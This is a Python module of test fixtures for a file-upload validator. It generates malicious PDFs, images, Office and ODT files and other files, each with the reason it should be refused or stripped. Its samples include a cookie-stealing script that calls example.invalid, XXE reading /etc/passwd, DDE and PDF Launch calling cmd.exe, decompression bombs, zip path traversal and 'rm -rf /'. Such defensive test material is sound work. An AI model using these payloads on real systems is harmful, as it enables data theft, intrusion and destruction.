"""Files that must not get in, or only in a shape that can do nothing. Each has a name that says what it is."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from PIL import Image, PngImagePlugin

from . import good

CANARY = b"KANARIEFUGL"
HTML = b"<!doctype html><script>fetch('https://example.invalid/' + document.cookie)</script>"
ZIP = good.archive({"ond.html": HTML})


@dataclass(frozen=True)
class Sample:
    name: str
    filename: str
    make: Callable[[], bytes]
    code: str  # why it is refused


# --- PDF ---


def pdf_in_object_stream(body: bytes, *, filters=1) -> bytes:
    """An object (number 5) that stands only inside a packed stream, as modern programs write them."""
    inner = b"5 0 " + body
    for _ in range(filters):
        inner = zlib.compress(inner, 9)
    names = " ".join(["/FlateDecode"] * filters).encode()
    parts = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        b"<</Type/ObjStm/N 1/First 4/Filter[%s]/Length %d>>\nstream\n%s\nendstream" % (names, len(inner), inner),
    ]
    out, starts = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    rows = [(0, 0, 65535), *((1, start, 0) for start in starts), (2, 4, 0), (1, len(out), 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    head = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
    start = len(out)
    out += b"6 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (head, table)
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def pdf_bomb() -> bytes:
    return pdf_in_object_stream(b"(" + b"\0" * 200_000_000 + b")", filters=2)


def pdf_whose_pages_are_a_ring() -> bytes:
    return good.pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R]/Count 9")


JS = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
PDFS = [
    Sample("web page behind a PDF header", "a.pdf", lambda: b"%PDF-1.4" + HTML, "to_i_en"),
    Sample(
        "web page in a comment of the PDF", "a.pdf", lambda: good.pdf(header=f"%PDF-1.7\n%{HTML.decode()}\n"), "to_i_en"
    ),
    Sample("script when opened", "a.pdf", lambda: good.pdf(catalog=f"/OpenAction {JS}"), "script"),
    Sample(
        "script in the names", "a.pdf", lambda: good.pdf(catalog="/Names<</JavaScript 5 0 R>>", objects=[JS]), "script"
    ),
    Sample(
        "script under a name in disguise", "a.pdf", lambda: good.pdf(objects=["<</S/J#61vaScript/J#53(1)>>"]), "script"
    ),
    Sample("script in a packed object", "a.pdf", lambda: pdf_in_object_stream(JS.encode()), "script"),
    Sample("starts a program", "a.pdf", lambda: good.pdf(catalog="/OpenAction<</S/Launch/F(cmd.exe)>>"), "script"),
    Sample("starts a program in two steps", "a.pdf", lambda: good.pdf(objects=["/Launch", "<</S 5 0 R>>"]), "script"),
    Sample("form that sends itself", "a.pdf", lambda: good.pdf(objects=["<</S/SubmitForm/F(http://x)>>"]), "script"),
    Sample("XFA form", "a.pdf", lambda: good.pdf(catalog="/AcroForm<</XFA 4 0 R/Fields[]>>"), "script"),
    Sample("film", "a.pdf", lambda: good.pdf(objects=["<</Type/Annot/Subtype/RichMedia>>"]), "script"),
    Sample(
        "attached file", "a.pdf", lambda: good.pdf(objects=["<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>"]), "vedhaeftet"
    ),
    Sample("paper clip", "a.pdf", lambda: good.pdf(objects=["<</Type/Annot/Subtype/FileAttachment>>"]), "vedhaeftet"),
    Sample("opens another file", "a.pdf", lambda: good.pdf(objects=["<</S/GoToR/F(//server/x.pdf)>>"]), "henter"),
    Sample("password", "a.pdf", lambda: good.pdf(trailer="/Encrypt<</Filter/Standard/V 4/R 4>>"), "laast"),
    Sample("PDF that is a zip too", "a.pdf", lambda: good.pdf(after=ZIP.decode("latin-1")), "to_i_en"),
    Sample(
        "PDF with a zip inside its end", "a.pdf", lambda: good.pdf(after=ZIP.decode("latin-1") + "%%EOF"), "to_i_en"
    ),
    Sample("PDF with a web page behind it", "a.pdf", lambda: good.pdf(after=HTML.decode()), "to_i_en"),
    Sample("half a PDF", "a.pdf", lambda: good.pdf()[:200], "ulaeselig"),
    Sample(
        "PDF without pages",
        "a.pdf",
        lambda: good.pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0"),
        "ulaeselig",
    ),
    Sample("PDF bomb", "a.pdf", pdf_bomb, "bombe"),
    Sample("pages in a ring", "a.pdf", pdf_whose_pages_are_a_ring, "ulaeselig"),
    Sample("rubbish with a PDF header", "a.pdf", lambda: b"%PDF-1.7\n" + b"\xff(" * 5000 + b"\n%%EOF\n", "ulaeselig"),
]

# --- Pictures ---


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_that_says_it_is(width: int, height: int) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def picture_of_20000_by_20000() -> bytes:
    output = BytesIO()
    Image.new("1", (20_000, 20_000)).save(output, "PNG")
    return output.getvalue()


PICTURES = [
    Sample("pixel flood", "a.png", picture_of_20000_by_20000, "for_mange_pixel"),
    Sample(
        "PNG that lies about its size", "a.png", lambda: png_that_says_it_is(2**31 - 1, 2**31 - 1), "for_mange_pixel"
    ),
    Sample("PNG with too little in it", "a.png", lambda: png_that_says_it_is(500, 500), "ulaeselig"),
    Sample("half a PNG", "a.png", lambda: good.png()[:60], "ulaeselig"),
    Sample("half a JPG", "a.jpg", lambda: good.jpg(size=(500, 500))[:900], "ulaeselig"),
    Sample("web page with the first bytes of a JPG", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, "ulaeselig"),
    Sample("SVG as PNG", "a.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "webside"),
    Sample("web page as JPG", "a.jpg", lambda: HTML, "webside"),
    Sample("XML as JPG", "a.jpg", lambda: b"\xef\xbb\xbf<?xml version='1.0'?><svg/>", "webside"),
    Sample("GIF", "a.gif", lambda: good.picture("GIF", mode="P"), "forkert_type"),
    Sample("TIFF as JPG", "a.jpg", lambda: good.picture("TIFF"), "forkert_type"),
    Sample("WebP", "a.webp", lambda: good.picture("WEBP"), "forkert_type"),
    Sample("BMP as PNG", "a.png", lambda: good.picture("BMP"), "forkert_type"),
    Sample("HEIC", "a.heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 50, "heic"),
]

# --- Office ---


def docx(name: str, body="x") -> Callable[[], bytes]:
    return lambda: good.docx({name: body})


def body(xml: str) -> Callable[[], bytes]:
    return lambda: good.docx(body=xml)


def related(kind: str, target: str) -> Callable[[], bytes]:
    rows = good.relations(good.relation(kind, target, external=True))
    return lambda: good.docx({"word/_rels/settings.xml.rels": rows})


def docx_of_many_parts() -> bytes:
    return good.docx({f"word/media/{number}.png": "" for number in range(4000)})


def docx_with_the_same_part_twice() -> bytes:
    parts = list(good.docx_parts().items())
    output = BytesIO()
    with zipfile.ZipFile(output, "w") as made:
        for name, text in [*parts, ("WORD/document.xml", "another")]:
            made.writestr(name, text)
    return output.getvalue()


def docx_that_overlaps() -> bytes:
    """A hundred entries, all of them the same packed bytes."""
    data = good.docx({f"word/media/{number:03}.png": "" for number in range(100)} | {"word/media/x.png": "a" * 50_000})
    start = data.find(b"word/media/x.png") - 30
    end = data.rfind(b"PK\x05\x06")
    size, crc = struct.unpack("<I", data[start + 18 : start + 22])[0], data[start + 14 : start + 18]
    table, at = bytearray(data), data.find(b"PK\x01\x02")
    while 0 <= at < end:
        if b"word/media/" in table[at + 46 : at + 46 + 16]:
            table[at + 16 : at + 20] = crc
            table[at + 20 : at + 28] = struct.pack("<II", size, 50_000)
            table[at + 42 : at + 46] = struct.pack("<I", start)
        at = data.find(b"PK\x01\x02", at + 46)
    return bytes(table)


def flagged_as_encrypted(data: bytes) -> bytes:
    spoiled = bytearray(data)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        spoiled[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 46)
    return bytes(spoiled)


LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><x>&b;</x>"
FETCH = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"
MACRO_MAIN = good.DOCX_MAIN.replace(
    "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
)
XLSM_MAIN = good.XLSX_MAIN.replace("openxmlformats-officedocument.spreadsheetml.sheet", "ms-excel.sheet.macroEnabled")
DDE = '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
SPY = '<draw:image xmlns:draw="d" xmlns:xlink="x" xlink:href="https://example.invalid/spor.png"/>'
LISTENER = '<script:event-listener script:event-name="dom:load"/>'
OFFICE = [
    Sample("Word file with macros, renamed", "a.docx", lambda: good.docx(main=MACRO_MAIN), "makro"),
    Sample("Word file that hides its macros", "a.docx", docx("word/vbaProject.bin"), "makro"),
    Sample("macros in another folder", "a.docx", docx("customXml/VBAPROJECT.BIN"), "makro"),
    Sample("old object in a Word file", "a.docx", docx("word/embeddings/oleObject1.bin"), "objekt"),
    Sample("ActiveX", "a.docx", docx("word/activeX/activeX1.xml"), "objekt"),
    Sample("program in a Word file", "a.docx", docx("word/media/x.exe", "MZ"), "objekt"),
    Sample(
        "macros in a sheet in a Word file",
        "a.docx",
        lambda: docx("word/embeddings/a.xlsx", good.xlsx(main=XLSM_MAIN))(),
        "makro",
    ),
    Sample("zip in a zip in a zip", "a.docx", lambda: docx("a.docx", good.docx({"b.docx": good.docx()}))(), "objekt"),
    Sample("template from the net", "a.docx", related("attachedTemplate", "https://example.invalid/a.dotm"), "henter"),
    Sample("picture from the net", "a.docx", related("image", "https://example.invalid/spor.png"), "henter"),
    Sample("template on a server", "a.docx", related("attachedTemplate", "file://///server/a.dotm"), "henter"),
    Sample("object on the own disk", "a.docx", related("oleObject", "file:///C:/a.exe"), "henter"),
    Sample("web page in a Word file", "a.docx", docx("word/afchunk.mht"), "objekt"),
    Sample("Excel file that asks a database", "a.xlsx", lambda: good.xlsx({"xl/connections.xml": "<x/>"}), "henter"),
    Sample("ODT with a picture from the net", "a.odt", lambda: good.odt(body=SPY), "henter"),
    Sample("DDE", "a.docx", body(DDE), "henter"),
    Sample("DDE in pieces", "a.docx", body(DDE.replace("DDEAUTO", "DD</w:instrText><w:instrText>EAUTO")), "henter"),
    Sample("Word bomb", "a.docx", lambda: docx("word/media/a.png", b"\0" * 50_000_000)(), "bombe"),
    Sample(
        "Word bomb in many pieces",
        "a.docx",
        lambda: good.docx({f"{n}.png": b"\0" * 900_000 for n in range(300)}),
        "bombe",
    ),
    Sample("thousands of parts", "a.docx", docx_of_many_parts, "bombe"),
    Sample("parts that overlap", "a.docx", docx_that_overlaps, "bombe"),
    Sample("billion laughs", "a.docx", docx("word/settings.xml", LAUGHS), "script"),
    Sample("entity that reads a file", "a.docx", docx("word/settings.xml", FETCH), "script"),
    Sample("entity in UTF-16", "a.docx", docx("word/settings.xml", FETCH.encode("utf-16")), "script"),
    Sample(
        "entity in UTF-7",
        "a.docx",
        docx("x.xml", '<?xml version="1.0" encoding="UTF-7"?>' + "+ADwAIQ-DOCTYPE"),
        "script",
    ),
    Sample("way out of the folder", "a.docx", docx("../../../etc/cron.d/x"), "to_i_en"),
    Sample("way out of the folder, by Windows", "a.docx", docx("..\\..\\x"), "to_i_en"),
    Sample("the same part twice", "a.docx", docx_with_the_same_part_twice, "to_i_en"),
    Sample("Word file behind another file", "a.docx", lambda: b"PK\x03\x04" + HTML + good.docx(), "to_i_en"),
    Sample("Word file before another file", "a.docx", lambda: good.docx() + HTML, "to_i_en"),
    Sample(
        "Word file with a password",
        "a.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "gammel_office",
    ),
    Sample("zip with a password", "a.docx", lambda: flagged_as_encrypted(good.docx()), "laast"),
    Sample("half a Word file", "a.docx", lambda: good.docx()[:-40], "ulaeselig"),
    Sample(
        "PowerPoint", "a.docx", lambda: good.docx(main=good.DOCX_MAIN.replace("word", "presentation")), "forkert_type"
    ),
    Sample("Excel file with macros, renamed", "a.xlsx", lambda: good.xlsx(main=XLSM_MAIN), "makro"),
    Sample("Excel 4 macros", "a.xlsx", lambda: good.xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "makro"),
    Sample(
        "Excel file that calls a program",
        "a.xlsx",
        lambda: good.xlsx({"xl/a.xml": "<ddeLink ddeService='cmd'/>"}),
        "henter",
    ),
    Sample("ODT with macros", "a.odt", lambda: good.odt({"Basic/Standard/Module1.xml": "<x/>"}), "makro"),
    Sample("ODT with a Python script", "a.odt", lambda: good.odt({"Scripts/python/x.py": "import os"}), "makro"),
    Sample("ODT that runs something when opened", "a.odt", lambda: good.odt(body=LISTENER), "makro"),
    Sample("ODT with a password", "a.odt", lambda: good.odt(body="<manifest:encryption-data/>"), "laast"),
    Sample("ODT with an old object", "a.odt", lambda: good.odt(body="<draw:object-ole/>"), "objekt"),
    Sample("zip", "a.zip", lambda: ZIP, "arkiv"),
    Sample("zip as Word file", "a.docx", lambda: ZIP, "arkiv"),
    Sample(
        "Java program as Word file", "a.docx", lambda: good.archive({"META-INF/MANIFEST.MF": "Main-Class: X"}), "arkiv"
    ),
]

# --- Text and everything else ---

OTHERS = [
    Sample("nothing", "a.txt", lambda: b"", "tom"),
    Sample("program as text", "a.txt", lambda: b"MZ\x90\0" + b"\0" * 100, "program"),
    Sample("Linux program as PDF", "a.pdf", lambda: b"\x7fELF\2\1\1" + b"\0" * 100, "program"),
    Sample("shell script as text", "a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    Sample("shortcut", "a.txt", lambda: b"[InternetShortcut]\r\nURL=https://example.invalid/\r\n", "program"),
    Sample("Windows shortcut", "a.pdf", lambda: b"L\0\0\0\1\x14\2\0" + b"\0" * 60, "program"),
    Sample("web page as text", "a.txt", lambda: b"\r\n  " + HTML, "webside"),
    Sample("web page with a byte order mark", "a.csv", lambda: b"\xef\xbb\xbf" + HTML, "webside"),
    Sample("binary as CSV", "a.csv", lambda: bytes(range(256)) * 4, "ukendte_tegn"),
    Sample("NUL in a text", "a.txt", lambda: b"Kladde\0.exe", "ukendte_tegn"),
    Sample("UTF-16 without its mark", "a.txt", lambda: "Kladde".encode("utf-16-le"), "ukendte_tegn"),
    Sample("broken UTF-16", "a.txt", lambda: b"\xff\xfe\x00\xd8", "ukendte_tegn"),
    Sample("RTF as Word file", "a.docx", lambda: rb"{\rtf1{\object\objdata 0105}}", "gammel_office"),
    Sample("gzip as text", "a.txt", lambda: b"\x1f\x8b\x08" + b"\0" * 30, "arkiv"),
    Sample("tar as text", "a.txt", lambda: b"a" * 257 + b"ustar" + b"\0" * 300, "arkiv"),
    Sample("7-Zip as PDF", "a.pdf", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 30, "arkiv"),
    Sample("PostScript as PDF", "a.pdf", lambda: b"%!PS-Adobe-3.0\n(x) run\n", "forkert_type"),
]

REFUSED = [*PDFS, *PICTURES, *OFFICE, *OTHERS]


# --- What gets in, but only the harmless part of it ---


def png_with_canaries() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", CANARY.decode())
    notes.add_itxt("XML:com.adobe.xmp", CANARY.decode(), zip=True)
    return good.png(pnginfo=notes)


def apng_with_a_second_picture() -> bytes:
    first, second = Image.new("RGB", (20, 20), "white"), Image.new("RGB", (20, 20), "red")
    output = BytesIO()
    first.save(output, "PNG", save_all=True, append_images=[second])
    return output.getvalue()


NEUTRALISED = {
    "photo with place, owner, comment and colour profile": ("a.jpg", good.photo_with_place),
    "JPG with a script in its comment": ("a.php.jpg", lambda: good.jpg(comment=b"<?php " + CANARY + b" ?>")),
    "JPG that is a zip too": ("a.jpg", lambda: good.jpg() + good.archive({"KANARIEFUGL.html": HTML})),
    "JPG with a web page behind it": ("a.html", lambda: good.jpg() + b"<script>" + CANARY + b"</script>"),
    "PNG with text in its chunks": ("a.png", png_with_canaries),
    "PNG with something behind its end": ("a.png", lambda: good.png() + CANARY),
    "PNG with a chunk of its own": (
        "a.png",
        lambda: good.png().replace(chunk(b"IEND", b""), chunk(b"prVt", CANARY) + chunk(b"IEND", b"")),
    ),
    "PNG of several pictures": ("a.png", apng_with_a_second_picture),
}
